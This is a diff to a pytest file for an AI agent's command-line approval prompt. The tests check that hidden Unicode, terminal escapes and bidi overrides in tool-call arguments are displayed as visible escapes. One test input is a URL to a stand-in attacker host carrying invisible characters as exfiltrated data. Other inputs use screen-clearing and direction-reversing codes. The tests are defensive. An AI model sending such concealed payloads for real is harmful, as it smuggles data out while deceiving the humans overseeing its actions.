@@ -3,6 +3,8 @@
 from __future__ import annotations
 
 import io
+import threading
+import time
 from collections.abc import Callable
 
 import pytest
@@ -10,7 +12,7 @@ import pytest
 from moss_agent.calls import Approval
 from moss_agent.cli.approval import EDIT, QUESTION, asking, refusing
 from moss_agent.cli.printing import Printer, drain
-from moss_agent.events import ApprovalRequested
+from moss_agent.events import ApprovalRequested, CallStarted
 from moss_agent.plugin_host import plugin
 from tests.cli.scenes import POST, THINK, make_chat, post
 
@@ -78,12 +80,57 @@ def test_an_edited_call_runs_as_it_was_typed() -> None:
     assert shown[1] == (EDIT, 'Post("a\\u001b[2J\\u202eb\\u000a", 3, place="x")')
 
 
-@pytest.mark.parametrize("text", ["a\x1b[2J\u202eb\n", "\\u202e", "\\\u202e\\", '\\n\n"\x00', "\u2028\\\\u000a\u2029"])
+HIDDEN = [
+    *("\u00ad", "\u034f", "\u115f", "\u1160", "\u17b4", "\u180b", "\u180e", "\u200b", "\u200c", "\u200d", "\u2060"),
+    *("\u2064", "\u3000", "\u3164", "\ufe00", "\ufe0f", "\ufeff", "\uffa0", "\U000e0001", "\U000e0041", "\U000e0100"),
+]
+
+
+def test_what_cannot_be_seen_is_shown_as_numbers() -> None:
+    out = io.StringIO()
+    Printer(out, out).confirm(ApprovalRequested(0, "Post", ("https://evil.example/?d=" + "".join(HIDDEN),)))
+    assert (
+        out.getvalue().isascii() and "\\u00ad\\u034f" in out.getvalue() and "\\U000e0041\\U000e0100" in out.getvalue()
+    )
+
+
+def test_a_call_in_any_language_is_shown_as_it_is() -> None:
+    out = io.StringIO()
+    Printer(out, out).confirm(ApprovalRequested(0, "Post", ("苔藓 é 👩 عربي \\U000e0041",)))
+    assert out.getvalue() == '? Post("苔藓 é 👩 عربي \\\\U000e0041") needs approval\n'
+
+
+@pytest.mark.parametrize(
+    "text",
+    ["a\x1b[2J\u202eb\n", "\\u202e", "\\\u202e\\", '\\n\n"\x00', "\u2028\\\\u000a\u2029"]
+    + ["\\U000e0041", "\\\U000e0041\\", "\U00100000\\U00100000", "".join(HIDDEN)],
+)
 def test_a_call_that_is_sent_off_unchanged_runs_as_it_was_asked_for(text: str) -> None:
     request = ApprovalRequested(0, "Post", (text, 3), {"place": text}, ("network",))
     out = io.StringIO()
     decision = asking(lambda: PLUGINS, Printer(out, out), lambda question, begun: begun or "e")(request)
     assert decision == Approval(True, (text, 3), named={"place": text})
+
+
+def test_a_call_that_runs_meanwhile_moves_nothing_while_a_question_stands(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("TERM", "xterm")
+    monkeypatch.delenv("NO_COLOR", raising=False)
+    out, before = Terminal(), set(threading.enumerate())
+    printer = Printer(out, out)
+    printer.show(CallStarted(0, "Find", "moss", ("moss",)))
+    (moving,) = set(threading.enumerate()) - before
+    asked: list[tuple[bool, int]] = []
+
+    def ask(question: str, begun: str) -> str:
+        asked.append((moving.is_alive(), len(out.getvalue())))
+        return "n"
+
+    asking(lambda: PLUGINS, printer, ask)(ApprovalRequested(1, "Post", ("x",)))
+    ((is_moving, written),) = asked
+    while not is_moving and "Find" not in out.getvalue()[written:]:
+        time.sleep(0.05)
+    printer.settle()
+    assert not is_moving
 
 
 def test_an_interrupt_is_no_answer() -> None:
